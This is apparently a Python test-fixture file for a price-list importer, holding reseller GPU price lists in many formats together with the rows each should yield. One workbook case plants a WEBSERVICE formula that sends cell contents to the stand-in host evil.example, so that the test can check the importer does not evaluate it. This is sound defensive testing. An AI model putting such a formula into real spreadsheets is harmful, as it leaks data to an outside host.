"""Price lists as resellers send them, made here, each with what every row must become.

An expectation is (line, status, id, amount, currency); rows that are not named must be blank.
"""

from __future__ import annotations

import io
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import date
from decimal import Decimal
from typing import Any

from openpyxl import Workbook

from catalog.prices_import.preview import Settings, Vat

Expected = tuple[int, str, str, str, str]
SE, WS, MAXQ = "rtx_pro_6000_blackwell_se", "rtx_pro_6000_blackwell_ws", "rtx_pro_6000_blackwell_maxq"
RP72, RP48 = "rtx_pro_5000_blackwell_72", "rtx_pro_5000_blackwell_48"


@dataclass(frozen=True)
class Case:
    """One list."""

    name: str
    file: str
    content: bytes
    rows: tuple[Expected, ...]
    vat: Vat = Vat.NET
    as_of: date | None = None
    settings: Settings = field(default_factory=Settings)


def workbook(fill: Callable[[Any], None], title: str = "Preise") -> bytes:
    """The bytes of a workbook with one sheet filled by `fill`."""
    book = Workbook()
    sheet = book.active
    sheet.title = title
    fill(sheet)
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def _rows(*rows: list[Any]) -> Callable[[Any], None]:
    def fill(sheet: Any) -> None:
        for row in rows:
            sheet.append(row)

    return fill


def _merged(sheet: Any) -> None:
    sheet.append(["Distributor GmbH – Preisliste", None, None, None])
    sheet.append(["Stand: 15.11.2026"])
    sheet.append([])
    sheet.append(["Artikel-Nr.", "Bezeichnung", "Preis EUR", None])
    sheet.append([None, None, "netto", "brutto"])
    sheet.merge_cells("A1:D1")
    sheet.merge_cells("C4:D4")
    sheet.append(["A-1", "RTX PRO 6000 Server Edition", 11900.5, 14161.6])
    sheet.append(["A-2", "H200 NVL 141 GB", 29500, 35105])


def _currency_format(sheet: Any) -> None:
    sheet.append(["Produkt", "Netto"])
    for name, amount, form in (
        ("RTX PRO 5000 72 GB", 7999.9, '#,##0.00 "€"'),
        ("RTX PRO 5000 48 GB", 7700, "[$USD] #,##0"),
        ("L40S 48GB", 6500, "[$CHF-807] #,##0.00"),
    ):
        sheet.append([name, amount])
        sheet.cell(sheet.max_row, 2).number_format = form


def _formulas(sheet: Any) -> None:
    sheet.append(["Produkt", "Netto EUR"])
    sheet.append(["H200 NVL", '=WEBSERVICE("http://evil.example/"&A1)'])
    sheet.append(["L40S", 6500])


def _second_sheet() -> bytes:
    book = Workbook()
    book.active.title = "Deckblatt"
    book.active.append(["Unsere Preisliste"])
    sheet = book.create_sheet("GPUs")
    for row in (["SKU", "Name", "Net price EUR"], ["1", "RTX PRO 6000 Max-Q", 12500], ["2", "GeForce RTX 5090", 3600]):
        sheet.append(row)
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


UTF16 = "Bezeichnung\tNettopreis\tWährung\nRTX PRO 6000 Max-Q\t12.345,00\tEUR\nH100 NVL 94GB\t24.000,00\tEUR\n"
COMMA = (
    '"Product","Unit price net (USD)","Qty"\n"NVIDIA H200 NVL, 141GB HBM3e","31,500.00",1\n'
    '"RTX 5090, 32GB","4,100.00",4\n'
)
SEMICOLON = (
    "Artikelnummer;Bezeichnung;Händlerpreis netto €\n900-2G153-2700-030;Server-Karte;12.345,67\nB;H200 NVL;29.900,00\n"
)
TITLES = (
    "Preisliste November\n\nStand 20.11.2026|alle Preise zzgl. MwSt.|\n\nProdukt|Preis EUR\n"
    "L40S|6.789,10\n\nRTX 6000 Ada|6.200,00\n"
)
VALIDITY = (
    "Preise gültig bis 31.12.2026;;\nBezeichnung;Netto EUR;gültig bis\nL40S;6.500,00;15.12.2026\nRTX 5090;3.600,00;\n"
)
OWN_FIELDS = (
    'prices:\n  - {item: l40s, amount: "6500.00", currency: EUR}\n'
    "  - item: rtx_5090\n    amount: 3600\n    currency: EUR\n"
)
SWISS = "Artikel;Preis exkl. MwSt CHF\nRTX PRO 6000 Max-Q;12'345.50\nH200 NVL;30’250.–\n"
PAGES = (
    "Artikelnummer;Bezeichnung;Netto EUR\nX1;L40S;6.500,00\n;;\n;GeForce-Karten;\n"
    "Artikelnummer;Bezeichnung;Netto EUR\nX2;RTX 5090;3.600,00\n\nEnde der Liste;;\n"
)
DOUBLES = "Bezeichnung;Netto EUR\nL40S;6.500,00\nL40S 48GB PCIe;6.500,00\nNVIDIA L40S;6.700,00\n"
MIXED = (
    "Bezeichnung;Netto EUR\nRTX PRO 6000 Blackwell;12.000,00\nRTX 4500 Ada;2.500,00\nH200 NVL;auf Anfrage\nL40S;\n"
    "L4;kostenlos\nRTX 5090;-50,00\nRTX PRO 4500 Blackwell;0,00\n"
)

CASES: tuple[Case, ...] = (
    Case(
        "semicolon, decimal comma, cp1252",
        "liste.csv",
        SEMICOLON.encode("cp1252"),
        ((2, "ready", SE, "12345.67", "EUR"), (3, "ready", "h200_nvl", "29900", "EUR")),
    ),
    Case(
        "tabs, UTF-16 with mark, currency column",
        "liste.txt",
        UTF16.encode("utf-16"),
        ((2, "ready", MAXQ, "12345", "EUR"), (3, "ready", "h100_nvl", "24000", "EUR")),
    ),
    Case(
        "tabs, UTF-16 big endian without mark",
        "liste.txt",
        UTF16.encode("utf-16-be"),
        ((2, "ready", MAXQ, "12345", "EUR"), (3, "ready", "h100_nvl", "24000", "EUR")),
    ),
    Case(
        "commas, quotes, decimal point, dollar in the heading",
        "prices.csv",
        COMMA.encode(),
        ((2, "ready", "h200_nvl", "31500", "USD"), (3, "ready", "rtx_5090", "4100", "USD")),
    ),
    Case(
        "UTF-8 with mark, pipes, blank rows, title rows and a date above",
        "preise.csv",
        b"\xef\xbb\xbf" + TITLES.encode(),
        ((6, "ready", "l40s", "6789.10", "EUR"), (8, "ready", "rtx_6000_ada", "6200", "EUR")),
        as_of=date(2026, 11, 20),
    ),
    Case(
        "Swiss apostrophes and dashes for round amounts",
        "schweiz.csv",
        SWISS.encode(),
        ((2, "ready", MAXQ, "12345.50", "CHF"), (3, "ready", "h200_nvl", "30250", "CHF")),
    ),
    Case(
        "currency in every cell, before and after, spaces as thousands marks",
        "gemischt.csv",
        "Bezeichnung;Nettopreis\nH200 NVL;29 900,00 €\nL40S;$ 6.500,00\nRTX 5090;EUR 3.600,-\n".encode(),
        (
            (2, "ready", "h200_nvl", "29900", "EUR"),
            (3, "ready", "l40s", "6500", "USD"),
            (4, "ready", "rtx_5090", "3600", "EUR"),
        ),
    ),
    Case(
        "net and gross side by side: net counts",
        "beide.csv",
        b"Bezeichnung;Brutto EUR;Netto EUR\nL40S;7.735,00;6.500,00\n",
        ((2, "ready", "l40s", "6500", "EUR"),),
    ),
    Case(
        "gross only",
        "brutto.csv",
        b"Bezeichnung;Preis inkl. MwSt. EUR\nL40S;7.735,00\n",
        ((2, "ready", "l40s", "7735", "EUR"),),
        vat=Vat.GROSS,
    ),
    Case(
        "VAT not stated",
        "unklar.csv",
        b"Bezeichnung;Preis EUR\nL40S;6.500,00\n",
        ((2, "ready", "l40s", "6500", "EUR"),),
        vat=Vat.UNSTATED,
    ),
    Case(
        "no currency anywhere",
        "ohne.csv",
        b"Bezeichnung;Nettopreis\nL40S;6.500,00\n",
        ((2, "no-currency", "l40s", "6500", ""),),
    ),
    Case(
        "no currency anywhere, but the user names it",
        "ohne.csv",
        b"Bezeichnung;Nettopreis\nL40S;6.500,00\n",
        ((2, "ready", "l40s", "6500", "EUR"),),
        settings=Settings(currency="EUR"),
    ),
    Case(
        "one point and three digits, nothing that tells comma from point",
        "punkt.csv",
        b"Bezeichnung;Netto EUR\nL40S;6.500\nRTX 5090;3.600\n",
        ((2, "confirm", "l40s", "6500", "EUR"), (3, "confirm", "rtx_5090", "3600", "EUR")),
    ),
    Case(
        "one point and three digits beside amounts with decimal comma",
        "punkt.csv",
        b"Bezeichnung;Netto EUR\nL40S;6.500\nRTX 5090;3.600,50\n",
        ((2, "ready", "l40s", "6500", "EUR"), (3, "ready", "rtx_5090", "3600.50", "EUR")),
    ),
    Case(
        "headings repeated on every page, group titles, remarks",
        "seiten.csv",
        PAGES.encode(),
        ((2, "ready", "l40s", "6500", "EUR"), (6, "ready", "rtx_5090", "3600", "EUR")),
    ),
    Case(
        "the same product three times",
        "doppelt.csv",
        DOUBLES.encode(),
        (
            (2, "ready", "l40s", "6500", "EUR"),
            (3, "repeated", "l40s", "6500", "EUR"),
            (4, "duplicate", "l40s", "6700", "EUR"),
        ),
    ),
    Case(
        "ambiguous, unknown, on request, empty, words, negative, zero",
        "misch.csv",
        MIXED.encode(),
        (
            (2, "confirm", WS, "12000", "EUR"),
            (3, "unknown", "", "2500", "EUR"),
            (4, "on-request", "h200_nvl", "", "EUR"),
            (6, "bad-amount", "l4", "", "EUR"),
            (7, "bad-amount", "rtx_5090", "", "EUR"),
            (8, "bad-amount", "rtx_pro_4500_blackwell", "", "EUR"),
        ),
    ),
    Case(
        "Excel's own sep= line",
        "excel.csv",
        b"sep=|\nName|Net price EUR\nL40S|6,500.00\n",
        ((3, "ready", "l40s", "6500", "EUR"),),
    ),
    Case(
        "Mac encoding",
        "mac.csv",
        "Stück;Grafikkarte für Server;Nettopreis in €\n1;L40S;6.500,00\n".encode("mac_roman"),
        ((2, "ready", "l40s", "6500", "EUR"),),
    ),
    Case(
        "scientific notation, as spreadsheets export long numbers",
        "wiss.csv",
        b"Bezeichnung;Netto EUR\nH200 NVL;2,99E+04\nL40S;6.500,00\n",
        ((2, "ready", "h200_nvl", "29900", "EUR"), (3, "ready", "l40s", "6500", "EUR")),
    ),
    Case(
        "part numbers with other signs, no names",
        "nummern.csv",
        b"Hersteller-Nr.;HEK EUR\n4x67a97315;29.900,00\nS4A90 C;1.900,00\nP79656/B21;410,00\n",
        (
            (2, "ready", "h200_nvl", "29900", "EUR"),
            (3, "ready", "nvlink_bridge_2way", "1900", "EUR"),
            (4, "ready", "hpe_front_fan_kit", "410", "EUR"),
        ),
    ),
    Case(
        "validity by row and in the title",
        "gueltig.csv",
        VALIDITY.encode(),
        ((3, "ready", "l40s", "6500", "EUR"), (4, "ready", "rtx_5090", "3600", "EUR")),
    ),
    Case(
        "workbook, merged headings over two rows",
        "liste.xlsx",
        workbook(_merged),
        ((6, "ready", SE, "11900.5", "EUR"), (7, "ready", "h200_nvl", "29500", "EUR")),
        as_of=date(2026, 11, 15),
    ),
    Case(
        "workbook, currency only in the number format",
        "format.xlsx",
        workbook(_currency_format),
        (
            (2, "ready", RP72, "7999.9", "EUR"),
            (3, "ready", RP48, "7700", "USD"),
            (4, "ready", "l40s", "6500", "CHF"),
        ),
    ),
    Case(
        "workbook, the list on the second sheet",
        "mappe.xlsx",
        _second_sheet(),
        ((2, "ready", MAXQ, "12500", "EUR"), (3, "ready", "rtx_5090", "3600", "EUR")),
    ),
    Case(
        "workbook, a formula without a saved value",
        "formel.xlsx",
        workbook(_formulas),
        ((2, "bad-amount", "h200_nvl", "", "EUR"), (3, "ready", "l40s", "6500", "EUR")),
    ),
    Case(
        "workbook, dates and numbers stored as text",
        "text.xlsx",
        workbook(_rows(["Name", "Netto EUR", "Preisdatum"], ["L40S", "6.500,00", date(2026, 11, 1)])),
        ((2, "ready", "l40s", "6500", "EUR"),),
    ),
    Case(
        "YAML in the catalogue's own fields",
        "preise.yaml",
        OWN_FIELDS.encode(),
        ((2, "ready", "l40s", "6500", "EUR"), (3, "ready", "rtx_5090", "3600", "EUR")),
        vat=Vat.UNSTATED,
    ),
    Case(
        "columns chosen by hand would be needed for the second price; the first is taken",
        "staffel.csv",
        b"Produkt;Netto ab 1 EUR;Netto ab 10 EUR\nL40S;6.500,00;6.300,00\n",
        ((2, "ready", "l40s", "6500", "EUR"),),
    ),
)


def decimal(text: str) -> Decimal | None:
    """An expected amount."""
    return Decimal(text) if text else None
